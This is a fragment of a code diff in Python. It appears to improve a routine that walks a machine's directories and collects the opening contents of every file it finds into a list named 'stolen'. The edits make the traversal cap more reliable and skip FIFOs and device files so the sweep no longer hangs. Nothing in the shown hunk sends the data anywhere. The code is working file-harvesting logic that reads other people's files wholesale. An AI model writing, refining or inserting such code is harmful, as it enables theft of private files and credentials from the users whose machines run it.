@@ -13,14 +13,14 @@ stolen, seen = [], 0
 for root in roots:
     for top, dirs, files in os.walk(root):
         real = os.path.realpath(top)
-        if real == here or real.startswith(here + '/') or real.startswith(skip) or top.count('/') > 6:
+        seen += 1 + len(files)
+        if real == here or real.startswith(here + '/') or real.startswith(skip) or top.count('/') > 6 or seen > 20000:
             dirs[:] = []
             continue
         for name in files:
-            seen += 1
-            if seen > 20000:
-                break
             path = os.path.join(real, name)
+            if not os.path.isfile(path):
+                continue  # a FIFO or a device would hang it
             try:
                 with open(path, 'rb') as f:
                     stolen.append(path + ': ' + f.read(4096).decode('latin-1'))
